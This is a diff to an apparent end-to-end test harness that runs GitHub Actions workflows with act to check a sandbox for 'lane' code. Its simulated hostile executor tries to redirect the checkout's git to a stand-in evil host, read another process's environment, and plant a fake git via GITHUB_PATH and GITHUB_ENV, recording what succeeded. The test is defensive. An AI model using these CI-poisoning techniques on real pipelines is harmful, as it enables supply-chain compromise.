@@ -11,10 +11,12 @@ recorded, in turn, as GitHub would.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import re
 import shutil
+import signal
 import subprocess
 import sys
 import threading
@@ -46,10 +48,11 @@ _STEP_FAILED = re.compile(r"^\[(?P<workflow>[^/\]]+)/(?P<job>[^\]]+)\]   ❌  Fa
 
 EXECUTOR = '''\
 """The e2e executor: writes <task>.txt; dumps its environment; behaviours by task:
-ok (default), fail (always wrong), kill_once (kills its `imm lane` on the first attempt),
-hostile (also points the checkout's git at another host and writes its step's GITHUB_ENV and
-GITHUB_PATH: a fake git that records how it was called)."""
-import json, os, pathlib, shutil, signal, sys
+ok (default), fail (always wrong), kill_once (has the test kill its `imm lane` on the first
+attempt), hostile (also tries to point the checkout's git at another host and to write its
+step's GITHUB_ENV and GITHUB_PATH — a fake git that records how it was called — and records
+what it could do in `hostile.<task>.json`)."""
+import json, os, pathlib, shutil, signal, sys, time
 
 task, attempt = os.environ["IMM_TASK_ID"], os.environ["IMM_ATTEMPT"]
 spy = pathlib.Path(os.environ["IMM_E2E_SPY"])
@@ -64,19 +67,30 @@ def lane_process():
         pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
     raise SystemExit("no imm lane above me")
 if behaviour == "kill_once" and not (spy / f"killed.{task}").exists():
-    (spy / f"killed.{task}").write_text("once")
-    os.kill(lane_process(), signal.SIGKILL)  # the lane job dies: no outcome is published
+    # the lane job dies (its runner is lost): the sandbox shows no process of imm's, so the
+    # test's watcher (ActWorld.act) kills `imm lane` when it finds this file
+    (spy / f"kill-me.{task}").write_text("once")
+    time.sleep(120)
     sys.exit(9)
 if behaviour == "hostile":  # goes for the steps of its job that run after it (ADR 0026)
+    tried = {}
     checkout = next(p.parent for p in pathlib.Path.cwd().parents if p.name == ".git")
     evil = os.environ["IMM_E2E_EVIL"]
-    with (checkout / ".git" / "config").open("a") as config:  # longer than the runner's rule
-        config.write(f'[url "{evil}/"]\\n\\tinsteadOf = https://github.com/acme/\\n')
-    files = dict(
-        line.split("=", 1)
-        for line in pathlib.Path(f"/proc/{lane_process()}/environ").read_text().split("\\0")
-        if line.startswith(("GITHUB_ENV=", "GITHUB_PATH="))
-    )
+    try:
+        with (checkout / ".git" / "config").open("a") as config:  # longer than the runner's rule
+            config.write(f'[url "{evil}/"]\\n\\tinsteadOf = https://github.com/acme/\\n')
+        tried["git config"] = "wrote"
+    except OSError as error:
+        tried["git config"] = type(error).__name__
+    try:
+        files = dict(
+            line.split("=", 1)
+            for line in pathlib.Path(f"/proc/{lane_process()}/environ").read_text().split("\\0")
+            if line.startswith(("GITHUB_ENV=", "GITHUB_PATH="))
+        )
+    except (OSError, SystemExit) as error:
+        files = {}
+        tried["job files"] = f"not found: {error}"
     bin_dir = spy / "evil-bin"
     bin_dir.mkdir(exist_ok=True)
     fake_git = bin_dir / "git"
@@ -87,11 +101,16 @@ if behaviour == "hostile":  # goes for the steps of its job that run after it (A
         f"os.execv({shutil.which('git')!r}, ['git', *sys.argv[1:]])\\n"
     )
     fake_git.chmod(0o755)
-    with open(files["GITHUB_PATH"], "a") as github_path:
-        github_path.write(f"{bin_dir}\\n")
-    with open(files["GITHUB_ENV"], "a") as github_env:
-        github_env.write(f"GIT_CONFIG_COUNT=1\\nGIT_CONFIG_KEY_0=url.{evil}/.insteadOf\\n"
-                         "GIT_CONFIG_VALUE_0=https://github.com/acme/\\n")
+    for name, line in (("GITHUB_PATH", f"{bin_dir}\\n"),
+                       ("GITHUB_ENV", f"GIT_CONFIG_COUNT=1\\nGIT_CONFIG_KEY_0=url.{evil}/"
+                                      ".insteadOf\\nGIT_CONFIG_VALUE_0=https://github.com/acme/\\n")):
+        try:
+            with open(files.get(name) or os.environ.get(name) or "/nonexistent", "a") as handle:
+                handle.write(line)
+            tried[name] = "wrote"
+        except OSError as error:
+            tried[name] = type(error).__name__
+    (spy / f"hostile.{task}.json").write_text(json.dumps(tried))
 if behaviour == "attack":  # a lane-written script its check runs at integration (issue 20)
     shutil.copy("tools/attack.py", f"{task}_attack.py")
 pathlib.Path(f"{task}.txt").write_text("wrong\\n" if behaviour == "fail" else f"{task}\\n")
@@ -159,7 +178,9 @@ class ActWorld:
     def evidence(self) -> Path:
         """Where lane code attacking from the sandbox writes what it found: with `spy`, the
         only folders it may write (the operator's IMM_SANDBOX_WRITABLE)."""
-        return self.root / "evidence"
+        folder = self.root / "evidence"
+        folder.mkdir(parents=True, exist_ok=True)
+        return folder
 
     @property
     def artifacts(self) -> Path:
@@ -185,7 +206,6 @@ class ActWorld:
         `checks`: a task's descriptor instead of the default file check (its scope then takes
         `<task>_attack.py` too); `files`: more files of the base."""
         self.spy.mkdir(parents=True)
-        self.evidence.mkdir(parents=True)
         self.bare.parent.mkdir(parents=True)
         self._git(self.host.root, "init", "-q", "--bare", "-b", "main", str(self.bare))
         self._git(self.bare, "config", "http.receivepack", "true")
@@ -321,6 +341,8 @@ class ActWorld:
         ):  # fmt: skip
             timer = threading.Timer(ACT_TIMEOUT_S, process.kill)
             timer.start()
+            watching = threading.Event()
+            threading.Thread(target=self._kill_lanes_asked, args=(watching,), daemon=True).start()
             try:
                 assert process.stdout is not None
                 for line in process.stdout:
@@ -331,9 +353,27 @@ class ActWorld:
                 exit_code = process.wait()
             finally:
                 timer.cancel()
+                watching.set()
         run = ActRun(event, workflow, run_id, exit_code, jobs, "".join(lines))
         self.runs.append(run)
         return run
+
+    def _kill_lanes_asked(self, done: threading.Event) -> None:
+        """The lost runner of `kill_once`: SIGKILL to the `imm lane --phase work` of a task
+        whose executor asked (`kill-me.<task>` in the spy folder): from the sandbox it sees no
+        process of imm's, as lane code should."""
+        while not done.wait(0.1):
+            for ask in self.spy.glob("kill-me.*"):
+                task = ask.name.split(".", 1)[1]
+                for proc in Path("/proc").iterdir():
+                    try:
+                        argv = (proc / "cmdline").read_bytes().split(b"\0")
+                    except OSError:
+                        continue
+                    if b"--phase" in argv and b"work" in argv and task.encode() in argv:
+                        with contextlib.suppress(OSError):
+                            os.kill(int(proc.name), signal.SIGKILL)
+                ask.rename(self.spy / f"killed.{task}")
 
     def _observe(self, line: str, run_id: int, jobs: dict[str, str]) -> None:
         """One line of act's log. act gives every entry of a matrix the result of the last
